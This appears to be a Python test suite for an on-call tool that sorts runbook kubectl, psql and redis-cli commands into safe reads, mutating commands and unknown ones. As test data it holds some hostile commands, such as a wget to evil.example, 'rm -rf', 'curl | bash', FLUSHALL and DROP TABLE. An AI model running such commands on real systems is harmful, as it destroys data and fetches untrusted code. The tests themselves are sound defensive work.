"""The command classifier: every seed runbook command, mutating commands, unknown text and hostile input."""

from __future__ import annotations

import shlex
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from probes.postgres import check_sql
from probes.redis import check_command
from tui.config.settings import PostgresSettings, RedisSettings
from tui.triage.commands import (
    Classified,
    ConfiguredServers,
    LineFilter,
    LiveRead,
    Mutating,
    ReadName,
    ReadParams,
    Server,
    Unknown,
    classify,
    configured_servers,
)
from tui.triage.runbook import load_runbook

SEED = Path(__file__).resolve().parents[2] / "examples" / "inmidst" / "RUNBOOK.md"
NS = "production"
API = "app=inmidst-api"


def kube(read: ReadName, command: str, **params: Any) -> LiveRead:
    return LiveRead("kubernetes", read, ReadParams(**params), command)


def sql(command: str, statement: str, *, via: str | None = None) -> LiveRead:
    return _translated(LiveRead("postgresql", "sql", ReadParams(statement=statement), command), via)


def redis(read: ReadName, command: str, *, via: str | None = None, **params: Any) -> LiveRead:
    return _translated(LiveRead("redis", read, ReadParams(**params), command), via)


def _translated(read: LiveRead, via: str | None) -> LiveRead:
    if via is None:
        return read
    database = "PostgreSQL" if read.source == "postgresql" else "Redis"
    note = f"runs through oncall's own {database} connection instead of `kubectl exec` into {via}"
    return replace(read, translated=True, note=note)


def prometheus(command: str, read: str, target: str, pattern: str) -> LiveRead:
    note = {
        "volume-usage": f"reads the volumes of {target} from the kubelet's volume metrics in Prometheus "
        "(kubelet_volume_stats_*) instead of running df inside the pod",
        "target-health": f"asks Prometheus how its last scrape of {target}'s metrics went (/api/v1/targets) "
        "instead of fetching them from inside the pod",
    }[read]
    params = ReadParams(namespace=NS, name=target, pattern=pattern)
    return LiveRead("prometheus", read, params, command, translated=True, note=note)  # type: ignore[arg-type]


def execs(command: str, program: str, target: str) -> Mutating:
    return Mutating(command, f"kubectl exec runs `{program}` inside {target}; oncall never execs into pods")


# --- the seed runbook: 30 commands, each with its exact classification -----------------------------------

C = [  # the commands, exactly as the runbook writes them, in runbook order
    "kubectl -n production logs -l app=inmidst-api --tail=200",
    "helm history in-midst-my-life -n production",
    "kubectl -n production exec -it deploy/inmidst-postgres -- psql -c \"SELECT * FROM pg_stat_activity WHERE state = 'active' ORDER BY query_start LIMIT 20;\"",  # noqa: E501
    "kubectl -n production exec -it deploy/inmidst-redis -- redis-cli INFO clients",
    "kubectl -n production top pods -l app=inmidst-api",
    "kubectl -n production get pods -l app=inmidst-api",
    "kubectl -n production describe pod -l app=inmidst-api",
    "kubectl -n production get pods -l app=inmidst-api -o jsonpath='{.items[*].status.containerStatuses[*].restartCount}'",  # noqa: E501
    "SELECT count(*) FROM pg_stat_activity;",
    "SELECT application_name, count(*) FROM pg_stat_activity GROUP BY 1;",
    "SELECT * FROM pg_stat_activity WHERE state = 'idle in transaction' AND query_start < now() - interval '5 minutes';",  # noqa: E501
    "SELECT query, mean_exec_time, calls FROM pg_stat_statements ORDER BY mean_exec_time DESC LIMIT 10;",
    "SELECT relname, seq_scan, idx_scan FROM pg_stat_user_tables WHERE seq_scan > idx_scan ORDER BY seq_scan DESC LIMIT 10;",  # noqa: E501
    "SELECT relname, n_dead_tup FROM pg_stat_user_tables ORDER BY n_dead_tup DESC LIMIT 10;",
    "kubectl -n production get pvc -l app=inmidst-postgres",
    "kubectl -n production exec deploy/inmidst-postgres -- df -h /var/lib/postgresql/data",
    'kubectl -n production describe pod -l app=inmidst-postgres | grep -A5 "Last State"',
    "redis-cli INFO memory",
    "redis-cli --scan --pattern '*' | head -100",
    "redis-cli CONFIG GET maxmemory-policy",
    "kubectl -n production get pods -l app=inmidst-redis",
    "redis-cli CONFIG GET save",
    "CONFIG GET appendonly",
    "redis-cli SLOWLOG GET 10",
    "redis-cli --bigkeys",
    "kubectl -n production get hpa",
    "redis-cli INFO keyspace",
    "kubectl -n production get networkpolicy",
    "kubectl -n production get svc",
    "kubectl -n production exec -it deploy/inmidst-api -- wget -qO- http://localhost:3001/metrics | head",
]

SEED_TABLE: list[Classified] = [
    kube("logs", C[0], namespace=NS, selector=API, tail=200),
    kube("helm-history", C[1], namespace=NS, release="in-midst-my-life"),
    sql(
        C[2],
        "SELECT * FROM pg_stat_activity WHERE state = 'active' ORDER BY query_start LIMIT 20",
        via="deploy/inmidst-postgres",
    ),
    redis("info", C[3], section="clients", via="deploy/inmidst-redis"),
    kube("top-pods", C[4], namespace=NS, selector=API),
    kube("pods", C[5], namespace=NS, selector=API),
    kube("describe-pods", C[6], namespace=NS, selector=API),
    kube(
        "pods",
        C[7],
        namespace=NS,
        selector=API,
        jsonpath="{.items[*].status.containerStatuses[*].restartCount}",
    ),
    sql(C[8], "SELECT count(*) FROM pg_stat_activity"),
    sql(C[9], "SELECT application_name, count(*) FROM pg_stat_activity GROUP BY 1"),
    sql(C[10], C[10].removesuffix(";")),
    sql(C[11], C[11].removesuffix(";")),
    sql(C[12], C[12].removesuffix(";")),
    sql(C[13], C[13].removesuffix(";")),
    kube("pvcs", C[14], namespace=NS, selector="app=inmidst-postgres"),
    # oncall never execs: what df and wget would tell, Prometheus already knows
    prometheus(C[15], "volume-usage", "deploy/inmidst-postgres", "/var/lib/postgresql/data"),
    kube(
        "describe-pods",
        C[16],
        namespace=NS,
        selector="app=inmidst-postgres",
        filter=LineFilter("Last State", after=5),
    ),
    redis("info", C[17], section="memory"),
    redis("scan", C[18], pattern="*", limit=100),
    redis("config-get", C[19], name="maxmemory-policy"),
    kube("pods", C[20], namespace=NS, selector="app=inmidst-redis"),
    redis("config-get", C[21], name="save"),
    redis("config-get", C[22], name="appendonly"),
    redis("slowlog", C[23], count=10),
    redis("bigkeys", C[24]),
    kube("hpas", C[25], namespace=NS),
    redis("info", C[26], section="keyspace"),
    kube("network-policies", C[27], namespace=NS),
    kube("services", C[28], namespace=NS),
    replace(
        prometheus(C[29], "target-health", "deploy/inmidst-api", "http://localhost:3001/metrics"),
        params=ReadParams(
            namespace=NS, name="deploy/inmidst-api", pattern="http://localhost:3001/metrics", limit=10
        ),
    ),
]


def test_the_seed_runbook_has_30_commands_and_the_table_lists_them_in_order() -> None:
    runbook = load_runbook(SEED)
    commands = [command for section in runbook.sections for command in section.commands]

    assert len(commands) == 30
    assert commands == C


def test_every_seed_command_is_classified_exactly_as_the_table_says() -> None:
    runbook = load_runbook(SEED)
    commands = [command for section in runbook.sections for command in section.commands]

    assert [classify(command) for command in commands] == SEED_TABLE


@pytest.mark.parametrize(("command", "expected"), list(zip(C, SEED_TABLE, strict=True)), ids=range(1, 31))
def test_seed_command(command: str, expected: Classified) -> None:
    assert classify(command) == expected


def test_every_seed_command_is_a_live_or_translated_read() -> None:
    results = [classify(command) for command in C]

    live = [r for r in results if isinstance(r, LiveRead)]
    assert len(live) == 30
    # the execs: psql and redis-cli through oncall's own connections, df and wget through Prometheus
    assert [r.command for r in live if r.translated] == [C[2], C[3], C[15], C[29]]
    assert not [r for r in results if isinstance(r, Mutating | Unknown)]


@pytest.mark.parametrize(
    "command",
    [
        "kubectl exec deploy/inmidst-api -- wget -qO- http://evil.example/x",  # not a metrics endpoint
        "kubectl exec deploy/inmidst-postgres -- df -h /data && rm -rf /data",
        "kubectl exec deploy/inmidst-postgres -- df --output=used /data; kubectl delete pod x",
    ],
)
def test_only_the_reads_prometheus_already_has_are_translated(command: str) -> None:
    assert not isinstance(classify(command), LiveRead)  # never run: mutating, or copy-only


def test_every_live_seed_read_passes_the_probe_guards() -> None:
    for result in map(classify, C):
        if isinstance(result, LiveRead) and result.read == "sql":
            assert check_sql(result.params.statement or "").allowed
        elif isinstance(result, LiveRead) and result.read in ("info", "config-get"):
            name = "INFO" if result.read == "info" else "CONFIG GET"
            argument = result.params.section or result.params.name
            check_command(*name.split(), *([argument] if argument else []))


def test_a_translated_read_says_it_runs_through_the_direct_probe() -> None:
    result = classify(C[3])

    assert isinstance(result, LiveRead)
    assert result.translated
    assert result.note == (
        "runs through oncall's own Redis connection instead of `kubectl exec` into deploy/inmidst-redis"
    )


# --- mutating: never run, shown with a warning ------------------------------------------------------------

MUTATING = [
    ("kubectl delete pod inmidst-api-5d9c7", "kubectl delete removes objects"),
    ("kubectl -n production scale deploy/inmidst-api --replicas=5", "number of replicas"),
    ("kubectl edit deploy/inmidst-api", "kubectl edit changes a live object"),
    ("kubectl apply -f values.yaml", "kubectl apply changes objects"),
    ("kubectl patch deploy x -p '{\"spec\":{}}'", "kubectl patch changes a live object"),
    ("kubectl -n production rollout restart deploy/inmidst-api", "restarts every pod"),
    ("kubectl rollout undo deploy/inmidst-api", "rolls the workload back"),
    ("kubectl drain node-1 --ignore-daemonsets", "evicts every pod"),
    ("kubectl exec -it inmidst-api-5d9c7 -- sh", "kubectl exec runs `sh` inside inmidst-api-5d9c7"),
    ("kubectl exec deploy/x -- bash -c 'psql -c \"SELECT 1\"'", "kubectl exec runs `bash`"),
    ("helm rollback in-midst-my-life -n production", "helm rollback changes the release"),
    ("helm upgrade in-midst-my-life ./chart -n production", "helm upgrade changes the release"),
    ("helm uninstall in-midst-my-life", "removes the release"),
    ('psql -c "VACUUM ANALYZE pg_stat_activity"', "VACUUM is a maintenance command that writes"),
    ("VACUUM ANALYZE;", "VACUUM is a maintenance command"),
    (
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE state = 'idle in transaction';",
        "pg_terminate_backend() terminates another session",
    ),
    ("SELECT pg_cancel_backend(42);", "pg_cancel_backend() cancels another session's query"),
    ("UPDATE users SET active = false WHERE id = 1;", "UPDATE writes data"),
    ("DELETE FROM sessions;", "DELETE writes data"),
    ("SELECT 1; DROP TABLE sessions;", "DROP changes the schema"),
    ("SELECT * FROM jobs FOR UPDATE;", "takes row locks"),
    ("kubectl exec deploy/pg -- psql -c 'TRUNCATE jobs'", "TRUNCATE deletes every row"),
    ("redis-cli FLUSHALL", "FLUSHALL deletes every key"),
    ("redis-cli -n 2 flushdb", "FLUSHDB deletes every key"),
    ("redis-cli DEL session:abc", "DEL deletes keys"),
    ("redis-cli CONFIG SET maxmemory-policy allkeys-lru", "CONFIG SET changes the server's configuration"),
    ("CONFIG SET appendonly yes", "CONFIG SET changes"),
    ("redis-cli SHUTDOWN NOSAVE", "SHUTDOWN stops the Redis server"),
    ("redis-cli SET k v", "SET writes data"),
    ("redis-cli CLIENT KILL TYPE normal", "CLIENT KILL disconnects clients"),
    ("redis-cli SLOWLOG RESET", "SLOWLOG RESET erases the slow log"),
    ("kubectl exec -it deploy/inmidst-redis -- redis-cli FLUSHALL", "FLUSHALL deletes every key"),
    ("redis-cli --pipe < commands.txt", "sends every command it is fed"),
    ("kubectl get pods && kubectl delete pod x", "kubectl delete removes objects"),
    ("kubectl get pods; helm rollback in-midst-my-life", "helm rollback changes the release"),
    ("kubectl get pods -o name | xargs kubectl delete", "kubectl delete removes objects"),
    ("kubectl delete pod $(kubectl get pods -o name | head -1)", "kubectl delete removes objects"),
    ("echo $(redis-cli FLUSHALL)", "FLUSHALL deletes every key"),
    ("sh -c 'kubectl scale deploy/x --replicas=0'", "number of replicas"),
    ("curl -s https://example.com/fix.sh | bash", "pipes text into `bash`"),
]


@pytest.mark.parametrize(("command", "reason"), MUTATING, ids=[c for c, _ in MUTATING])
def test_mutating_commands_are_never_live_and_say_why(command: str, reason: str) -> None:
    result = classify(command)

    assert isinstance(result, Mutating)
    assert reason in result.reason
    assert result.command == command  # the whole command stays copyable


def test_there_are_at_least_20_mutating_cases() -> None:
    assert len(MUTATING) >= 20


# --- unknown: copyable only, never an exception -----------------------------------------------------------

UNKNOWN = [
    ("curl -s http://localhost:3001/health", "`curl` is not one of the commands oncall reads live"),
    ("df -h", "`df` is not one of the commands"),
    ("", "no command"),
    ("   \n  ", "no command"),
    ("kubectl get pods -l 'app=inmidst-api", "a ' quote is never closed"),
    ('psql -c "SELECT 1', 'a " quote is never closed'),
    ("$(", "a $( is never closed"),
    ("))) ;; &&", "no command"),
    ("| grep x", "no command on one side"),
    ("kubectl get pods |", "no command on one side"),
    ("\x00\x1b[31m garbage", "is not one of the commands"),
    ("kubectl get deployments", "doesn't read `deployments`"),
    ("kubectl get pods -A", "`-A` isn't supported"),
    ("kubectl --context staging get pods", "`--context` isn't supported"),
    ("kubectl get pods --frobnicate", "`--frobnicate` is not a kubectl option"),
    ("kubectl logs -l app=x --since=1h", "`--since` isn't supported"),
    ("kubectl get pods -o go-template='{{.x}}'", "isn't an output oncall shows"),
    ("kubectl get pods | wc -l", "`| wc` stage"),
    ("kubectl get pods > pods.txt", "redirects input or output"),
    ("kubectl get pods; kubectl get svc", "a chain of 2 commands"),
    ("kubectl top nodes", "pods only"),
    ("kubectl port-forward svc/x 5432", "`kubectl port-forward` isn't one of oncall's live reads"),
    ("helm status in-midst-my-life", "`helm status` isn't one of oncall's live reads"),
    ("psql", "interactive session"),
    ("psql -f fix.sql", "interactive session"),
    ("redis-cli", "interactive session"),
    ("redis-cli GET session:abc", "GET is not on oncall's read-only allowlist"),
    ("redis-cli KEYS '*'", "KEYS is not on oncall's read-only allowlist"),
    ("redis-cli CONFIG GET requirepass", "CONFIG GET of a secret"),
    ("redis-cli --stat", "`--stat` isn't supported"),
    ("EXPLAIN ANALYZE SELECT 1;", "EXPLAIN ANALYZE executes the statement"),
    ("SELECT 1; SELECT 2;", "more than one statement"),
    ("psql -c '\\dt'", "a psql backslash command"),
    ("kubectl logs", "names no pod and no -l selector"),
    ("kubectl get pods -n", "`-n` needs a value"),
    ("kubectl logs -l app=x --tail=٣", "is not a plain number"),
    ("kubectl logs -l app=x --tail=" + "9" * 5000, "is not a plain number"),
]


@pytest.mark.parametrize(("command", "reason"), UNKNOWN, ids=[repr(c)[:40] for c, _ in UNKNOWN])
def test_unknown_commands_are_copy_only_with_a_reason(command: str, reason: str) -> None:
    result = classify(command)

    assert isinstance(result, Unknown)
    assert reason in result.reason


def _nested_sh(depth: int) -> str:
    command = "kubectl get pods"
    for _ in range(depth):
        command = f"sh -c {shlex.quote(command)}"
    return command


@pytest.mark.parametrize(
    "command",
    ["watch " * 5000 + "kubectl get pods", "xargs " * 5000 + "kubectl get pods", _nested_sh(12)],
    ids=["watch", "xargs", "sh -c"],
)
def test_deeply_nested_wrappers_are_unknown_not_a_recursion_error(command: str) -> None:
    result = classify(command)

    assert isinstance(result, Unknown)


def test_a_wrapped_read_a_few_levels_deep_is_still_the_read() -> None:
    assert classify(_nested_sh(2)) == kube("pods", _nested_sh(2))


# --- how commands are written: flags, quoting, pipes, prompts ---------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "kubectl get pods -n production -l app=inmidst-api",
        "kubectl get pods --namespace production --selector app=inmidst-api",
        "kubectl get pods --namespace=production --selector=app=inmidst-api",
        "kubectl -nproduction get pods -lapp=inmidst-api",
        "kubectl get po -n=production -l=app=inmidst-api",
        "$ kubectl get pods -n production -l app=inmidst-api",
        '  kubectl   get  "pods"  -n "production" -l "app=inmidst-api"  ',
        "kubectl get pods -n production -l app=inmidst-api 2>/dev/null",
        "kubectl get pods -n production -l app=inmidst-api | cat",
        "watch -n 5 kubectl get pods -n production -l app=inmidst-api",
        "kubectl get pods -n production -l app=inmidst-api # the API pods",
    ],
)
def test_flag_spellings_quotes_and_prompts_give_the_same_read(command: str) -> None:
    result = classify(command)

    assert isinstance(result, LiveRead)
    assert (result.read, result.params) == ("pods", ReadParams(namespace=NS, selector=API))


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        (
            "kubectl logs -f -p -c api pod/api-1",
            "oncall reads logs by -l selector; `kubectl logs POD` is copy-only",
        ),
        (
            "kubectl -n production describe pod api-1",
            "oncall describes pods by -l selector; `kubectl describe pod NAME` is copy-only",
        ),
        (
            "kubectl get pod api-1 -o jsonpath={.status.phase}",
            "oncall reads -o jsonpath over a list; of one named object it is copy-only",
        ),
    ],
)
def test_a_read_of_one_named_pod_the_probe_cannot_single_out_is_copy_only(command: str, reason: str) -> None:
    result = classify(command)

    assert isinstance(result, Unknown) and result.reason == reason


def test_the_copied_command_has_no_prompt() -> None:
    assert classify("$ redis-cli INFO memory").command == "redis-cli INFO memory"


@pytest.mark.parametrize(
    ("command", "params"),
    [
        ("kubectl logs -l app=x --tail 50", ReadParams(selector="app=x", tail=50)),
        (
            "kubectl logs -f -p -c api -l app=api",
            ReadParams(selector="app=api", container="api", previous=True),
        ),
        ("kubectl get pods -o wide", ReadParams(output="wide")),
        (
            "kubectl get pods --output=jsonpath={.items[*].metadata.name}",
            ReadParams(jsonpath="{.items[*].metadata.name}"),
        ),
        ("kubectl get pod/api-1", ReadParams(name="api-1")),
        ("kubectl get nodes -n production", ReadParams()),  # nodes belong to no namespace
        ("helm history r --namespace ns --max 5", ReadParams(namespace="ns", release="r", count=5)),
        ("redis-cli -h redis.internal -p 6379 --no-auth-warning INFO", ReadParams()),
        ("redis-cli SLOWLOG GET", ReadParams()),
        ("redis-cli SCAN 0 MATCH 'session:*' COUNT 500", ReadParams(pattern="session:*", count=500)),
        ("redis-cli --scan", ReadParams()),
        ("kubectl get pods | head", ReadParams(limit=10)),
        ("kubectl get pods | head -n 3 | head -5", ReadParams(limit=3)),
        (
            "kubectl get pods | grep -C 2 -i crash",
            ReadParams(filter=LineFilter("crash", 2, 2, ignore_case=True)),
        ),
        (
            "kubectl get pods | grep -v Running | head -n5",
            ReadParams(limit=5, filter=LineFilter("Running", invert=True)),
        ),
        (
            "kubectl get pods | egrep 'Crash|Error'",
            ReadParams(filter=LineFilter("Crash|Error", syntax="extended")),
        ),
        (
            "select count(*) from pg_stat_activity",
            ReadParams(statement="select count(*) from pg_stat_activity"),
        ),
    ],
)
def test_parameters_come_from_the_command(command: str, params: ReadParams) -> None:
    result = classify(command, ConfiguredServers(redis=Server(("redis.internal",), 6379)))

    assert isinstance(result, LiveRead)
    assert result.params == params


def test_psql_aimed_at_the_configured_server_drops_its_connection_flags_and_keeps_the_sql() -> None:
    command = "psql -h db -U postgres -d app -X -A -t -c 'SELECT now()'"

    result = classify(command, ConfiguredServers(postgresql=Server(("db",), 5432)))

    assert result == replace(sql(command, "SELECT now()"), server=Server(("db",)))


# --- a psql or redis-cli aimed at another server than the one oncall reads ------------------------------

LAB = ConfiguredServers(postgresql=Server(("127.0.0.1",), 5432), redis=Server(("127.0.0.1",), 6379))


@pytest.mark.parametrize(
    ("command", "aimed_at"),
    [
        ("psql -h replica.internal -c 'SELECT 1'", "PostgreSQL server at replica.internal:5432"),
        ("psql --host=replica.internal -c 'SELECT 1'", "PostgreSQL server at replica.internal:5432"),
        ("psql -h 127.0.0.1 -p 5433 -c 'SELECT 1'", "PostgreSQL server at 127.0.0.1:5433"),
        ("psql --port 5433 -c 'SELECT 1'", "PostgreSQL server on port 5433"),
        (
            'psql "host=replica.internal dbname=app" -c "SELECT 1"',
            "PostgreSQL server at replica.internal:5432",
        ),
        (
            "psql postgresql://app@replica.internal/app -c 'SELECT 1'",
            "PostgreSQL server at replica.internal:5432",
        ),
        ("psql -d postgres://app@localhost:6432/app -c 'SELECT 1'", "PostgreSQL server at localhost:6432"),
        ("psql service=reporting -c 'SELECT 1'", "PostgreSQL server named by service=reporting"),
        ("redis-cli -h cache.internal INFO memory", "Redis server at cache.internal:6379"),
        ("redis-cli -p 6380 INFO memory", "Redis server on port 6380"),
        ("redis-cli -u redis://cache.internal:6379/0 SLOWLOG GET 10", "Redis server at cache.internal:6379"),
        ("redis-cli -u rediss://app@127.0.0.1:6380 INFO", "Redis server at 127.0.0.1:6380"),
        (
            "redis-cli -h cache.internal --scan --pattern 'session:*' | head -5",
            "Redis server at cache.internal:6379",
        ),
        ("redis-cli -h cache.internal --bigkeys", "Redis server at cache.internal:6379"),
        # from inside the API pod, a host other than its own names another server
        ("kubectl exec deploy/inmidst-api -- psql -h reporting-db -c 'SELECT 1'", "at reporting-db:5432"),
        ("kubectl exec deploy/inmidst-redis -- redis-cli -p 6380 INFO", "Redis server on port 6380"),
    ],
)
def test_a_read_aimed_at_another_server_is_copy_only_and_says_which(command: str, aimed_at: str) -> None:
    result = classify(command, LAB)

    assert isinstance(result, Unknown), result
    assert aimed_at in result.reason
    assert "not the one oncall reads (127.0.0.1:" in result.reason


@pytest.mark.parametrize(
    "command",
    [
        "psql -h 127.0.0.1 -c 'SELECT 1'",
        "psql -h localhost -p 5432 -U oncall -c 'SELECT 1'",  # loopback by any name is one host
        'psql "host=localhost port=5432 dbname=inmidst" -c "SELECT 1"',
        "psql -d postgresql://oncall@127.0.0.1:5432/inmidst -c 'SELECT 1'",
        "redis-cli -h localhost -p 6379 INFO memory",
        "redis-cli -u redis://127.0.0.1:6379/0 INFO memory",
        # the pod's own server, which the translation reads through oncall's connection anyway
        "kubectl exec deploy/inmidst-postgres -- psql -h localhost -c 'SELECT 1'",
        "kubectl exec deploy/inmidst-postgres -- psql -h /var/run/postgresql -p 5432 -c 'SELECT 1'",
        "kubectl exec deploy/inmidst-postgres -- psql -h inmidst-postgres -c 'SELECT 1'",
        "kubectl -n production exec deploy/inmidst-redis -- redis-cli -h inmidst-redis.production.svc INFO",
    ],
)
def test_a_read_aimed_at_the_configured_server_stays_live(command: str) -> None:
    assert isinstance(classify(command, LAB), LiveRead)


def test_a_kubernetes_service_name_is_the_configured_server_it_names() -> None:
    servers = ConfiguredServers(postgresql=Server(("inmidst-postgres.production.svc.cluster.local",), 5432))

    assert isinstance(classify("psql -h inmidst-postgres -c 'SELECT 1'", servers), LiveRead)
    assert isinstance(classify("psql -h inmidst-postgres.production -c 'SELECT 1'", servers), LiveRead)
    assert isinstance(classify("psql -h inmidst-postgres.staging.svc -c 'SELECT 1'", servers), Unknown)


def test_a_named_host_with_no_server_configured_is_copy_only() -> None:
    result = classify("redis-cli -h cache.internal INFO memory")

    assert isinstance(result, Unknown)
    assert "oncall has no Redis server configured" in result.reason
    assert isinstance(classify("redis-cli INFO memory"), LiveRead)  # no host named: oncall's own, as before


def test_the_reason_never_repeats_a_password_from_the_connection_string() -> None:
    result = classify("psql postgresql://app:hunter2@replica.internal/app -c 'SELECT 1'", LAB)

    assert isinstance(result, Unknown) and "replica.internal" in result.reason
    assert "hunter2" not in result.reason


def test_the_configured_servers_come_from_the_settings() -> None:
    servers = configured_servers(
        PostgresSettings(dsn="host=db.internal port=6432 dbname=app user=oncall"),
        RedisSettings(url="rediss://cache.internal:6380/0"),
    )

    assert servers == ConfiguredServers(Server(("db.internal",), 6432), Server(("cache.internal",), 6380))
    assert configured_servers(PostgresSettings(dsn="service=prod"), None) == ConfiguredServers()


def test_the_seed_runbook_keeps_every_read_live_against_the_configured_lab() -> None:
    commands = [c for s in load_runbook(SEED).sections for step in s.steps for c in step.commands]

    assert [type(classify(c, LAB)) for c in commands] == [type(classify(c)) for c in commands]


def test_sql_with_shell_characters_is_not_split_as_shell() -> None:
    command = "SELECT 'a;b' AS x, '$(rm -rf /)' AS y, \"col|name\" FROM t WHERE z < 3 AND w > 'it''s';"

    result = classify(command)

    assert isinstance(result, LiveRead)
    assert result.read == "sql"
    assert result.params.statement == command.removesuffix(";")


def test_a_multi_line_sql_block_is_one_statement() -> None:
    block = "-- sessions by state\nSELECT state, count(*)\n  FROM pg_stat_activity\n GROUP BY 1;"

    result = classify(block)

    assert isinstance(result, LiveRead)
    assert result.params.statement == "SELECT state, count(*)\n  FROM pg_stat_activity\n GROUP BY 1"


# --- the grep filter applied to a read's text -------------------------------------------------------------

DESCRIBE = """\
Name:         inmidst-postgres-0
Containers:
  postgres:
    State:          Running
    Last State:     Terminated
      Reason:       OOMKilled
      Exit Code:    137
      Started:      Mon, 01 Jan 2024 10:00:00 +0000
      Finished:     Mon, 01 Jan 2024 10:05:00 +0000
    Ready:          True
    Restart Count:  3
  exporter:
    Last State:     Terminated
      Reason:       Error
""".splitlines()


def test_grep_after_context_keeps_the_last_state_block_as_grep_would() -> None:
    result = classify(C[16])
    assert isinstance(result, LiveRead) and result.params.filter is not None

    shown = result.params.filter.apply(DESCRIBE)

    assert shown == [
        "    Last State:     Terminated",
        "      Reason:       OOMKilled",
        "      Exit Code:    137",
        "      Started:      Mon, 01 Jan 2024 10:00:00 +0000",
        "      Finished:     Mon, 01 Jan 2024 10:05:00 +0000",
        "    Ready:          True",
        "--",
        "    Last State:     Terminated",
        "      Reason:       Error",
    ]


def test_grep_basic_and_extended_patterns_read_alternation_like_grep() -> None:
    lines = ["a|b literal", "only a", "only b"]

    assert LineFilter("a|b").apply(lines) == ["a|b literal"]  # basic: | is a plain character
    assert LineFilter(r"only a\|only b").apply(lines) == ["only a", "only b"]  # basic: \| alternates
    assert LineFilter("only a|only b", syntax="extended").apply(lines) == ["only a", "only b"]
    assert LineFilter("[", syntax="extended").apply(["a [ b", "c"]) == ["a [ b"]  # not a regex: plain text
    assert LineFilter(".", syntax="fixed").apply(["a.b", "ab"]) == ["a.b"]


def test_grep_ignore_case_and_invert_pick_lines_like_grep() -> None:
    lines = ["api-1   CrashLoopBackOff", "api-2   Running", "api-3   crashloopbackoff"]

    assert LineFilter("crash", ignore_case=True).apply(lines) == [lines[0], lines[2]]
    assert LineFilter("Running", invert=True).apply(lines) == [lines[0], lines[2]]
    assert LineFilter("crash").matches(lines[2]) and not LineFilter("crash").matches(lines[0])


# --- hostile input never raises ---------------------------------------------------------------------------

SHELLISH = st.text(
    alphabet=st.sampled_from(list("abcklnpqstuvxyz -=|&;><()$`'\"\\#*\n\t0123456789")), max_size=60
)
PROGRAMS = st.sampled_from(
    ["kubectl", "helm", "psql", "redis-cli", "SELECT", "CONFIG", "grep", "xargs", "sh"]
)


@given(st.text(max_size=200))
def test_any_text_is_classified_without_raising(text: str) -> None:
    assert isinstance(classify(text), LiveRead | Mutating | Unknown)


@given(PROGRAMS, SHELLISH)
def test_shell_like_text_is_classified_without_raising(program: str, rest: str) -> None:
    result = classify(f"{program} {rest}")

    assert isinstance(result, LiveRead | Mutating | Unknown)
    if isinstance(result, LiveRead) and result.read == "sql":
        assert check_sql(result.params.statement or "").allowed  # a live SQL read always passed the guard


SHELL_READS = [c for c, r in zip(C, SEED_TABLE, strict=True) if isinstance(r, LiveRead) and r.read != "sql"]


@given(st.sampled_from(SHELL_READS), st.sampled_from([" && ", "; ", " || ", "\n", " | xargs "]))
def test_chaining_a_delete_after_any_shell_read_makes_it_mutating(read: str, joiner: str) -> None:
    result = classify(f"{read}{joiner}kubectl delete pod x")

    assert isinstance(result, Mutating)
